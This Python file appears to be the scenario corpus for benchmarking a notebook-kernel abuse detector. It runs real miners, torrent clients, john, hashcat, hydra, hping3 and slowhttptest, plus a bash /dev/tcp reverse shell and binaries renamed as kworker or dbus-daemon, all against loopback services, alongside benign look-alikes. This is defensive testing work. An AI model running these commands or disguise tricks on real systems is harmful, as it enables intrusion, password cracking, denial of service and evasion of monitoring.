"""The scenario corpus: forbidden use run with real programs, and honest look-alikes.

Each scenario is one kernel cell. Abuse scenarios run the real third-party program
wherever Debian bookworm or PyPI packages it (``install.sh`` installs them), and a
stand-in only where nothing is packaged (xmrig, face-swap tools). Everything talks to
loopback: the tracker, pool, HTTP and TCP targets below listen on 127.0.0.1, DHT, LSD,
UPnP and peer exchange are switched off, and ``benchmarks/detection.py`` runs the whole
corpus inside a network namespace that has only loopback.

A cell prints ``START <epoch> PID <pid>`` when its program starts, then waits for it
(at most ``seconds``): the guard's incident time minus START is the latency.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]

from tests.standins import pool as standin_pool
from tests.standins import tracker as standin_tracker
from tests.standins.holder import Holder

STANDINS = ROOT / "tests" / "standins"
HERE = Path(__file__).resolve().parent
PYTHON = sys.executable
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
INFOHASH = "0123456789abcdef0123456789abcdef01234567"


# ---------------------------------------------------------------- loopback services

class _Quiet(SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass


@dataclass
class Env:
    """The loopback services and files every scenario may use."""

    work: Path
    tracker: int = 0
    pool: int = 0
    http: int = 0
    holder: int = 0
    _closers: list[Callable[[], None]] = field(default_factory=list)

    @classmethod
    def start(cls) -> Env:
        work = Path(tempfile.mkdtemp(prefix="colab-guard-corpus-"))
        env = cls(work)
        tracker = standin_tracker.serve()
        env.tracker = tracker.server_address[1]
        pool = standin_pool.serve()
        env.pool = pool.getsockname()[1]
        site = work / "site"
        site.mkdir()
        (site / "data.bin").write_bytes(os.urandom(4 << 20))
        http = ThreadingHTTPServer(("127.0.0.1", 0),
                                   lambda *a: _Quiet(*a, directory=str(site)))
        threading.Thread(target=http.serve_forever, daemon=True).start()
        env.http = http.server_address[1]
        holder = Holder()
        env.holder = holder.port
        env._closers = [tracker.shutdown, pool.close, http.shutdown, holder.close]
        env._prepare_files()
        return env

    def close(self) -> None:
        for close in self._closers:
            close()
        shutil.rmtree(self.work, ignore_errors=True)

    def _prepare_files(self) -> None:
        w = self.work
        (w / "payload.bin").write_bytes(os.urandom(1 << 20))
        (w / "payload.torrent").write_bytes(make_torrent(w / "payload.bin", self.announce))
        # md5 of a random 12-character password: no quick crack ends the scenario early
        (w / "hashes.txt").write_text(hashlib.md5(os.urandom(9).hex().encode()).hexdigest() + "\n")
        # an md5crypt hash (Debian's john 1.9 has no raw-md5) of a random password
        salted = subprocess.run(["openssl", "passwd", "-1", os.urandom(9).hex()],
                                capture_output=True, text=True).stdout.strip()
        (w / "shadow.txt").write_text(f"user:{salted}\n")
        (w / "words.txt").write_text("\n".join(f"guess{i}" for i in range(50000)) + "\n")
        (w / "users.txt").write_text("admin\nroot\n")
        (w / "torrc").write_text(f"SocksPort 127.0.0.1:19050\nDataDirectory {w}/tor\nDisableNetwork 1\n")
        models = w / "models"
        models.mkdir()
        for name in ("inswapper_128.onnx", "det_10g.onnx", "w600k_r50.onnx"):
            (models / name).write_bytes(b"\0" * 1024)
        (w / "hello.c").write_text("#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n")
        config = w / "qbt" / "qBittorrent" / "config"
        config.mkdir(parents=True)
        (config / "qBittorrent.conf").write_text("[LegalNotice]\nAccepted=true\n")

    @property
    def announce(self) -> str:
        return f"http://127.0.0.1:{self.tracker}/announce"

    @property
    def magnet(self) -> str:
        return f"magnet:?xt=urn:btih:{INFOHASH}&tr=http%3A%2F%2F127.0.0.1%3A{self.tracker}%2Fannounce"

    def copy_as(self, program: str, name: str) -> str:
        """A copy of a real program under a disguising name (in its own folder)."""
        folder = self.work / f"disguised-{name}-{program.rsplit('/', 1)[-1]}"
        folder.mkdir(exist_ok=True)
        target = folder / name
        shutil.copy(os.path.realpath(program), target)
        return str(target)


def bencode(value) -> bytes:
    if isinstance(value, int):
        return b"i%de" % value
    if isinstance(value, str):
        value = value.encode()
    if isinstance(value, bytes):
        return b"%d:%s" % (len(value), value)
    if isinstance(value, list):
        return b"l" + b"".join(bencode(v) for v in value) + b"e"
    return b"d" + b"".join(bencode(k) + bencode(value[k]) for k in sorted(value)) + b"e"


def make_torrent(path: Path, announce: str, piece: int = 1 << 18) -> bytes:
    """A private single-file torrent (private: no DHT, no peer exchange, no LSD)."""
    data = path.read_bytes()
    pieces = b"".join(hashlib.sha1(data[i:i + piece]).digest() for i in range(0, len(data), piece))
    return bencode({"announce": announce,
                    "info": {"name": path.name, "length": len(data), "piece length": piece,
                             "pieces": pieces, "private": 1}})


# ---------------------------------------------------------------- scenarios

@dataclass
class Scenario:
    name: str
    category: str | None  # None: an honest look-alike
    argv: Callable[[Env], list[str]] | None = None  # a program the cell starts and waits for
    cell: Callable[[Env], str] | None = None  # or a whole cell of its own
    programs: tuple[str, ...] = ()  # must be installed (PATH, /usr/sbin)
    seconds: float = 20.0  # the cell waits this long for its program
    expect: str = "stopped"  # stopped, recorded, left alone
    standin: bool = False  # a stand-in: nothing real is packaged
    fast: bool = False  # in the test suite's small subset

    @property
    def abuse(self) -> bool:
        return self.category is not None

    def missing(self) -> list[str]:
        return [p for p in self.programs if find(p) is None]

    def code(self, env: Env) -> str:
        if self.cell is not None:
            return self.cell(env)
        return run_program(self.argv(env), env.work, self.seconds)


def find(program: str) -> str | None:
    return shutil.which(program) or shutil.which(program, path="/usr/sbin:/sbin:/usr/bin")


def run_program(argv: list[str], cwd: Path, seconds: float) -> str:
    """A cell that starts one program, prints START, and waits for it."""
    return (
        "import subprocess, time\n"
        f"t0 = time.time()\n"
        f"p = subprocess.Popen({argv!r}, cwd={str(cwd)!r}, stdin=subprocess.DEVNULL,\n"
        "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "print('START', t0, 'PID', p.pid, flush=True)\n"
        "try:\n"
        f"    p.wait(timeout={seconds})\n"
        "except subprocess.TimeoutExpired:\n"
        "    p.kill(); p.wait()\n"
        "print('END', round(time.time() - t0, 1), 'rc', p.returncode, flush=True)\n"
    )


def _py(script: str) -> list[str]:
    return [PYTHON, str(HERE / "programs" / script)]


def _miner(env: Env) -> list[str]:
    return [PYTHON, str(STANDINS / "miner.py"), "-o", f"stratum+tcp://127.0.0.1:{env.pool}",
            "-u", WALLET, "-p", "x"]


def _renamed_miner(env: Env) -> list[str]:
    # A copy of the interpreter called kworker, no stratum:// scheme, renamed after start.
    return [env.copy_as(PYTHON, "kworker"), str(STANDINS / "miner.py"), "-o",
            f"127.0.0.1:{env.pool}", "-u", WALLET, "-p", "x", "--rename", "kworker/0:1"]


def _libtorrent_cell(env: Env) -> str:
    return (
        "import time\n"
        "t0 = time.time()\n"
        "print('START', t0, 'PID', 0, flush=True)\n"
        "import libtorrent as lt\n"
        "ses = lt.session({'listen_interfaces': '127.0.0.1:0', 'enable_dht': False,\n"
        "                  'enable_lsd': False, 'enable_upnp': False, 'enable_natpmp': False})\n"
        f"info = lt.torrent_info({str(env.work / 'payload.torrent')!r})\n"
        f"h = ses.add_torrent({{'ti': info, 'save_path': {str(env.work / 'lt')!r}}})\n"
        "while time.time() - t0 < 20:\n"
        "    time.sleep(0.1)\n"
        "print('END', round(time.time() - t0, 1), flush=True)\n"
    )


def _cpu_training_cell(env: Env) -> str:
    return (
        "import time, numpy as np\n"
        "t0 = time.time(); print('START', t0, 'PID', 0, flush=True)\n"
        "a = np.random.rand(256, 256)\n"
        "while time.time() - t0 < 15:\n"
        "    a = np.tanh(a @ a.T / 256)\n"
        "print('END', round(time.time() - t0, 1), flush=True)\n"
    )


def _hashing_cell(env: Env) -> str:
    return (
        "import hashlib, time, multiprocessing as mp\n"
        "def work(seed):\n"
        "    d = str(seed).encode(); t = time.time()\n"
        "    while time.time() - t < 12: d = hashlib.sha256(d).digest()\n"
        "    return d.hex()[:8]\n"
        "t0 = time.time(); print('START', t0, 'PID', 0, flush=True)\n"
        "with mp.get_context('fork').Pool(2) as pool:\n"
        "    print(pool.map(work, range(2)))\n"
        "print('END', round(time.time() - t0, 1), flush=True)\n"
    )


def _pip_install_cell(env: Env) -> str:
    # A real install, offline: the wheels ensurepip ships with the interpreter.
    return (
        "import ensurepip, glob, os, subprocess, sys, time\n"
        "wheels = glob.glob(os.path.join(os.path.dirname(ensurepip.__file__), '_bundled', '*.whl'))\n"
        "t0 = time.time(); print('START', t0, 'PID', 0, flush=True)\n"
        "r = subprocess.run([sys.executable, '-m', 'pip', 'install', '--quiet', '--no-index',\n"
        f"                    '--no-deps', '--target', {str(env.work / 'pip-target')!r}, *wheels],\n"
        "                   capture_output=True, text=True)\n"
        "print('END', round(time.time() - t0, 1), 'rc', r.returncode, r.stderr[-300:], flush=True)\n"
    )


def _reverse_shell(env: Env) -> list[str]:
    return ["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{env.holder} 0>&1"]


def _public_server_cell(env: Env) -> str:
    # A file server on 0.0.0.0 with clients from six distinct loopback addresses,
    # kept connected (HTTP keep-alive) for 75 s.
    return (
        "import http.client, socket, subprocess, sys, time\n"
        "s = socket.socket(); s.bind(('127.0.0.1', 0)); port = s.getsockname()[1]; s.close()\n"
        "t0 = time.time()\n"
        f"p = subprocess.Popen([sys.executable, '-m', 'http.server', '--bind', '0.0.0.0', str(port),\n"
        f"                      '--protocol', 'HTTP/1.1', '--directory', {str(env.work / 'site')!r}],\n"
        "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "print('START', t0, 'PID', p.pid, flush=True)\n"
        "time.sleep(1)\n"
        "clients = []\n"
        "for i in range(2, 8):\n"
        "    c = http.client.HTTPConnection('127.0.0.1', port, source_address=(f'127.0.0.{i}', 0))\n"
        "    clients.append(c)\n"
        "while time.time() - t0 < 75 and p.poll() is None:\n"
        "    for c in clients:\n"
        "        try:\n"
        "            c.request('GET', '/'); c.getresponse().read()\n"
        "        except OSError:\n"
        "            pass\n"
        "    time.sleep(1)\n"
        "p.kill(); p.wait()\n"
        "print('END', round(time.time() - t0, 1), flush=True)\n"
    )


def _local_dashboard_cell(env: Env) -> str:
    # A dev server / dashboard on 0.0.0.0 reached by one client (the user, through the proxy).
    return (
        "import urllib.request, socket, subprocess, sys, time\n"
        "s = socket.socket(); s.bind(('127.0.0.1', 0)); port = s.getsockname()[1]; s.close()\n"
        "t0 = time.time()\n"
        f"p = subprocess.Popen([sys.executable, '-m', 'http.server', '--bind', '0.0.0.0', str(port),\n"
        f"                      '--directory', {str(env.work / 'site')!r}],\n"
        "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "print('START', t0, 'PID', p.pid, flush=True)\n"
        "time.sleep(1)\n"
        "while time.time() - t0 < 20:\n"
        "    try:\n"
        "        urllib.request.urlopen(f'http://127.0.0.1:{port}/').read()\n"
        "    except OSError:\n"
        "        pass\n"
        "    time.sleep(0.5)\n"
        "p.kill(); p.wait()\n"
        "print('END', round(time.time() - t0, 1), flush=True)\n"
    )


def _url(env: Env, path: str = "data.bin") -> str:
    return f"http://127.0.0.1:{env.http}/{path}"


_ARIA_SAFE = ["--enable-dht=false", "--enable-dht6=false", "--bt-enable-lpd=false",
              "--enable-peer-exchange=false", "--disable-ipv6=true", "--listen-port=6881-6889"]

SCENARIOS: list[Scenario] = [
    # ------------------------------------------------------------ crypto-mining (stand-ins)
    Scenario("miner with stratum URL", "crypto-mining", _miner, standin=True, fast=True),
    Scenario("miner renamed kworker, no scheme", "crypto-mining", _renamed_miner, standin=True),
    # ------------------------------------------------------------ torrenting
    Scenario("aria2c magnet link", "torrenting",
             lambda e: ["aria2c", *_ARIA_SAFE, "--dir", str(e.work / "dl"), e.magnet],
             programs=("aria2c",), fast=True),
    Scenario("aria2c .torrent file", "torrenting",
             lambda e: ["aria2c", *_ARIA_SAFE, "--dir", str(e.work / "dl2"),
                        str(e.work / "payload.torrent")], programs=("aria2c",)),
    Scenario("transmission-cli", "torrenting",
             lambda e: ["transmission-cli", "--no-portmap", "--port", "51413", "-w",
                        str(e.work / "tr"), str(e.work / "payload.torrent")],
             programs=("transmission-cli",)),
    Scenario("ctorrent", "torrenting",
             lambda e: ["ctorrent", "-s", str(e.work / "ct.bin"), "-p", "6990",
                        str(e.work / "payload.torrent")], programs=("ctorrent",)),
    Scenario("ctorrent renamed kworker", "torrenting",
             lambda e: [e.copy_as(find("ctorrent"), "kworker"), "-s", str(e.work / "ct2.bin"),
                        "-p", "6991", str(e.work / "payload.torrent")],
             programs=("ctorrent",), fast=True),
    Scenario("rtorrent", "torrenting",
             lambda e: ["rtorrent", "-n", "-o", f"system.daemon.set=true,directory={e.work},"
                        "dht.mode.set=disable,protocol.pex.set=no,trackers.use_udp.set=no",
                        str(e.work / "payload.torrent")], programs=("rtorrent",)),
    Scenario("qbittorrent-nox", "torrenting",
             lambda e: ["qbittorrent-nox", f"--profile={e.work}/qbt", "--webui-port=18080"],
             programs=("qbittorrent-nox",)),
    Scenario("libtorrent inside the kernel", "torrenting", cell=_libtorrent_cell),
    # ------------------------------------------------------------ password-cracking
    Scenario("john", "password-cracking",
             lambda e: ["john", "--format=md5crypt", "--incremental", f"--session={e.work}/john1",
                        str(e.work / "shadow.txt")],
             programs=("john",)),
    Scenario("john renamed render", "password-cracking",
             lambda e: [e.copy_as(find("john"), "render"), "--incremental", f"--session={e.work}/john2",
                        str(e.work / "shadow.txt")],
             programs=("john",)),
    Scenario("hashcat", "password-cracking",
             lambda e: ["hashcat", "-m", "0", "-a", "3", "--potfile-disable", str(e.work / "hashes.txt"),
                        "?a?a?a?a?a?a"], programs=("hashcat",)),
    Scenario("hydra", "password-cracking",
             lambda e: ["hydra", "-L", str(e.work / "users.txt"), "-P", str(e.work / "words.txt"),
                        "-s", str(e.holder), "127.0.0.1", "ftp"], programs=("hydra",)),
    # ------------------------------------------------------------ deepfake (stand-ins)
    Scenario("roop-style face swap", "deepfake",
             lambda e: _py("roop/run.py") + ["-s", "me.jpg", "-t", "clip.mp4", "--frame-processor",
                                             "face_swapper", "--models", str(e.work / "models")],
             standin=True),
    Scenario("script opening inswapper_128.onnx", "deepfake",
             lambda e: _py("video_tool.py") + [str(e.work / "models" / "inswapper_128.onnx")],
             standin=True),
    # ------------------------------------------------------------ remote-access
    Scenario("dropbear SSH server", "remote-access",
             lambda e: ["dropbear", "-F", "-E", "-R", "-p", "127.0.0.1:2298"], programs=("dropbear",),
             fast=True),
    Scenario("dropbear renamed dbus-daemon", "remote-access",
             lambda e: [e.copy_as(find("dropbear"), "dbus-daemon"), "-F", "-E", "-R", "-p",
                        "127.0.0.1:2299"], programs=("dropbear",)),
    Scenario("bash reverse shell", "remote-access", _reverse_shell),
    # ------------------------------------------------------------ proxy
    Scenario("microsocks", "proxy", lambda e: ["microsocks", "-i", "127.0.0.1", "-p", "10800"],
             programs=("microsocks",), fast=True),
    Scenario("microsocks renamed kworker", "proxy",
             lambda e: [e.copy_as(find("microsocks"), "kworker"), "-i", "127.0.0.1", "-p", "10801"],
             programs=("microsocks",)),
    Scenario("tor with a config file", "proxy",
             lambda e: ["tor", "-f", str(e.work / "torrc")], programs=("tor",)),
    # ------------------------------------------------------------ denial-of-service
    Scenario("slowhttptest", "denial-of-service",
             lambda e: ["slowhttptest", "-c", "200", "-H", "-i", "10", "-r", "100", "-l", "30",
                        "-u", _url(e, "")], programs=("slowhttptest",)),
    Scenario("hping3 flood", "denial-of-service",
             lambda e: ["hping3", "-S", "-p", str(e.http), "-i", "u1000", "127.0.0.1"],
             programs=("hping3",)),
    # ------------------------------------------------------------ scanning
    Scenario("nmap connect scan", "scanning",
             lambda e: ["nmap", "-sT", "-Pn", "--max-rate", "2000", "-p", "1-65535", "127.0.0.1"],
             programs=("nmap",)),
    Scenario("nmap renamed update", "scanning",
             # (rate-limited like a real scan: on loopback a full scan ends in under a second)
             lambda e: [e.copy_as(find("nmap"), "update"), "-sT", "-Pn", "--max-rate", "2000", "-p",
                        "1-65535", "127.0.0.1"],
             programs=("nmap",)),
    # ------------------------------------------------------------ web-hosting (recorded only)
    Scenario("public file server, many clients", "web-hosting", cell=_public_server_cell,
             expect="recorded", seconds=80),

    # ============================================================ honest look-alikes
    Scenario("CPU-heavy training (numpy)", None, cell=_cpu_training_cell, expect="left alone"),
    Scenario("hashing-heavy data work", None, cell=_hashing_cell, expect="left alone"),
    Scenario("program named data-miner", None,
             lambda e: [e.copy_as(PYTHON, "data-miner"), "-c",
                        "import hashlib,time\nt=time.time()\nwhile time.time()-t<8: hashlib.sha256(b'x').digest()"],
             expect="left alone"),
    Scenario("program named torrent-indexer", None,
             lambda e: [e.copy_as(PYTHON, "torrent-indexer"), "-c",
                        f"import time, urllib.request\nfor i in range(10):\n"
                        f"    urllib.request.urlopen('{_url(e)}').read(); time.sleep(0.5)"],
             expect="left alone"),
    Scenario("aria2c parallel HTTP download", None,
             lambda e: ["aria2c", "-x", "8", "-s", "8", "--dir", str(e.work / "dl3"),
                        "--allow-overwrite=true", "--max-download-limit=1M", _url(e)],
             programs=("aria2c",), expect="left alone", fast=True),
    Scenario("transmission-show reads a .torrent", None,
             lambda e: ["transmission-show", str(e.work / "payload.torrent")],
             programs=("transmission-show",), expect="left alone"),
    Scenario("pip install of a local package", None, cell=_pip_install_cell, expect="left alone"),
    Scenario("compiling C with gcc", None,
             lambda e: ["gcc", "-O2", "-o", str(e.work / "hello"), str(e.work / "hello.c")],
             programs=("gcc",), expect="left alone"),
    Scenario("face detection models (insightface buffalo_l)", None,
             lambda e: _py("video_tool.py") + [str(e.work / "models" / "det_10g.onnx"),
                                               str(e.work / "models" / "w600k_r50.onnx")],
             expect="left alone"),
    Scenario("ssh port check with bash /dev/tcp", None,
             lambda e: ["bash", "-c", f"for i in 1 2 3; do timeout 1 bash -c '</dev/tcp/127.0.0.1/{e.holder}'"
                        " && echo up; sleep 1; done"], expect="left alone", fast=True),
    Scenario("curl download", None,
             lambda e: ["curl", "-s", "-o", "/dev/null", "--limit-rate", "1M", _url(e)],
             programs=("curl",), expect="left alone"),
    Scenario("load test, 20 connections", None,
             lambda e: _py("load_test.py") + [str(e.http), "20"], expect="left alone"),
    Scenario("health check of three local ports", None,
             lambda e: _py("port_check.py") + [str(e.http), str(e.holder), str(e.tracker)],
             expect="left alone"),
    Scenario("local dashboard on 0.0.0.0, one client", None, cell=_local_dashboard_cell,
             expect="left alone"),
]
